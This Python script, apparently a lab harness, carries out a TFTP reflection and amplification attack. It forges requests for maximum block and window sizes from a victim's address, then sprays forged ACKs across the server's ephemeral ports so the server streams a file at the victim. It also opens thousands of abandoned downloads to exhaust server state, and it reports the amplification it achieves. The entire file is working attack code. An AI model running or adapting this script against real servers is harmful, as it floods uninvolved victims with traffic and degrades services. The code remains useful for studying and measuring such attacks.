#!/usr/bin/python3
"""What an attacker does who wants a server to drive a file at somebody else, and clients that
fall silent. A forged packet is one that leaves a socket with the victim's address; the attacker
never looks at what arrives there, only the counter does.

    attack.py SERVER PORT ATTACKER VICTIM FILE auto|shared      (in the client machine's namespace)
"""

import json
import socket
import struct
import sys
import time

HEADERS = 28  # IPv4 and UDP
SO_RCVBUFFORCE = 33  # socket(7); not in the module
ACK_0 = b"\0\4\0\0"


def request(name):
    """The request whose answers are largest for its size. As the peer is unproven, nothing but an
    OACK comes of it until an ACK arrives at the right port."""
    return b"\0\1" + name.encode() + b"\0octet\0blksize\0" + b"65464\0windowsize\0" + b"65535\0"


def silent_clients(host, port, count, name):
    """That many downloads begun, acknowledged up to the OACK and then left alone. From one address
    after the other, 1,000 ports each. Returns how many were answered."""
    asked, answered = request(name), 0
    for first in range(0, count, 1000):
        address = f"127.2.{first // 250000}.{first // 1000 % 250 + 1}"
        sockets = []
        for n in range(1000):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.bind((address, 20000 + n))
            s.setblocking(False)
            s.sendto(asked, (host, port))
            sockets.append(s)
            if n % 100 == 99:
                time.sleep(0.001)
        end = time.monotonic() + 5
        waiting = set(sockets)
        while waiting and time.monotonic() < end:
            for s in list(waiting):
                try:
                    _, peer = s.recvfrom(2048)
                except BlockingIOError:
                    continue
                answered += 1
                waiting.discard(s)
        for s in sockets:
            s.close()
    return answered


class Meter:
    """Sockets of the victim: forged packets leave from them, and what arrives is counted."""

    def __init__(self, address, count):
        self.sockets = []
        for _ in range(count):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, 64 << 20)
            s.bind((address, 0))
            s.setblocking(False)
            self.sockets.append(s)
        self.bytes = [0] * count

    def read(self):
        for i, s in enumerate(self.sockets):
            while True:
                try:
                    self.bytes[i] += len(s.recv(65536)) + HEADERS
                except (BlockingIOError, ConnectionRefusedError):
                    break


class Attacker:
    def __init__(self, server, port, own, name):
        self.server, self.port, self.own = server, port, own
        self.request = request(name)
        self.spent = self.acks = 0

    def send(self, s, raw, port):
        self.spent += len(raw) + HEADERS
        try:
            s.sendto(raw, (self.server, port))
        except ConnectionRefusedError:
            pass

    def learn(self, times):
        """The ports that answers come from: the attacker asks for himself."""
        seen = set()
        for _ in range(times):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.bind((self.own, 0))
                s.settimeout(1)
                self.send(s, self.request, self.port)
                try:
                    peer = s.recvfrom(2048)[1]
                except socket.timeout:
                    continue
                seen.add(peer[1])
                self.send(s, b"\0\5\0\0bye\0", peer[1])
        return seen

    def spray(self, s, ports, acks):
        for ack in acks:
            for n, port in enumerate(ports):
                self.send(s, ack, port)
                self.acks += 1
                if n % 256 == 255:
                    time.sleep(0.0005)  # so that the server's processor keeps up


def main():
    server, port, own, victim, name, mode = sys.argv[1:]
    attacker = Attacker(server, int(port), own, name)
    known = attacker.learn(64)
    if mode == "auto":
        # What was seen is closed again; every port of the usual range is as likely as any other.
        ports, victims, acks, patience = range(32768, 61000), 12, (ACK_0,), 70
    else:
        ports, victims, patience = sorted(known), 2, 3
        acks = [struct.pack("!HH", 4, n) for n in range(0, 12800, 64)]
    meter = Meter(victim, victims)
    for s in meter.sockets:
        attacker.send(s, attacker.request, attacker.port)
        time.sleep(0.01)
        if mode == "auto":
            attacker.spray(s, ports, acks)
        else:
            for ack in acks:
                attacker.spray(s, ports, (ack,))
                time.sleep(0.005)
        meter.read()
    end = time.monotonic() + patience
    while time.monotonic() < end:
        meter.read()
        time.sleep(0.05)
    print(json.dumps({"at_victim": sum(meter.bytes), "spent": attacker.spent,
                      "requests": victims, "acks": attacker.acks,
                      "hits": sum(n > 4 * 1500 for n in meter.bytes)}))


if __name__ == "__main__":
    main()
